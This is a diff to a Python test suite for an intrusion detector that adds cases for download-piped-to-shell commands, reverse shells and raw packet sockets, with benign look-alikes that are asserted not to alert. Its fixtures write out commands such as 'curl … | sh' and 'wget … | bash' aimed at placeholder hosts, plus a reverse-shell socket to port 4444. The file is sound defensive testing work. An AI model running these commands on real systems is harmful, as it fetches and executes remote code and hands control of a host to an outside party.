@@ -208,7 +208,7 @@ CASES: dict[str, Case] = {
         lambda: ex("/bin/bash", parent=SHIM),  # on the host
     ),
     "nw.download_piped_to_shell": (
-        lambda: ex("/bin/sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh", parent=proc("cron")),
+        lambda: ex("/bin/sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | sh; rm -f /tmp/y", parent=proc("cron")),
         lambda: ex("/bin/sh", "-c", "curl -fsSL -o /opt/i.sh http://203.0.113.9/i.sh", parent=proc("cron")),
         lambda: ex("/bin/sh", "-c", "wget -qO- http://x/i.sh | bash", container=C, parent=proc("buildkit-runc")),
     ),
@@ -218,8 +218,15 @@ CASES: dict[str, Case] = {
     "nw.reverse_shell": (
         lambda: net(Op.NET_DUP, "203.0.113.9", 4444, "bash", fd=3, fd2=0),
         lambda: net(Op.NET_DUP, "10.0.0.9", 40000, "xinetd", fd=3, fd2=0),
+        lambda: net(Op.NET_DUP, "127.0.0.1", 40000, "httpd", fd=4, fd2=0),  # busybox httpd serving a request
+        lambda: net(Op.NET_DUP, "203.0.113.9", 4444, "bash", fd=3, fd2=1),  # the same shell's fd 1: one alert
     ),
-    "nw.packet_socket": (lambda: raw_socket("sniffer"), lambda: raw_socket("dhclient")),
+    "nw.packet_socket": (
+        lambda: raw_socket("sniffer"),
+        lambda: raw_socket("dhclient"),
+        lambda: net(Op.NET_SOCKET, "", 0, "runc:[2:INIT]", container=C, sock_type=3, ret=4, fd=-1,
+                    family=socket.AF_NETLINK),  # netlink: talking to the kernel
+    ),
     "nw.unexpected_udp": (
         lambda: net(Op.NET_SENDTO, "203.0.113.9", 9999, "app", container=C, sock_type=2),
         lambda: net(Op.NET_SENDTO, "10.96.0.10", 53, "app", container=C, sock_type=2),
@@ -402,6 +409,17 @@ def test_journal_vacuum_and_history_replacement(shipped):
     for argv in (("bash", "-c", ": > /root/.bash_history"), ("sh", "-c", ": > /root/.ash_history")):
         name = argv[2].split("/")[-1]
         assert _raised(det, hist_shell(*argv, name=name, container=C)) == ["nw.clear_shell_history"], argv
+
+
+def test_more_attack_forms(shipped):
+    det = shipped
+    raw_ip = net(Op.NET_SOCKET, "", 0, "sniffer", sock_type=3, ret=4, fd=-1, protocol=1, family=socket.AF_INET)
+    assert _raised(det, raw_ip) == ["nw.packet_socket"]
+    for line in ("curl -s http://x/i.sh | sh", "wget -qO- http://x/i.sh|bash && echo ok",
+                 "curl http://x/i | sudo -E bash -s", "(curl -s http://x/i | /bin/sh)"):
+        assert _raised(det, ex("/bin/sh", "-c", line, parent=proc("cron"))) == ["nw.download_piped_to_shell"], line
+    for line in ("curl -s http://x/i.sh | shasum", "curl -o f http://x; sh f"):
+        assert _raised(det, ex("/bin/sh", "-c", line, parent=proc("cron"))) == [], line
 
 
 def test_a_link_counts_as_a_write_of_its_new_name(shipped):
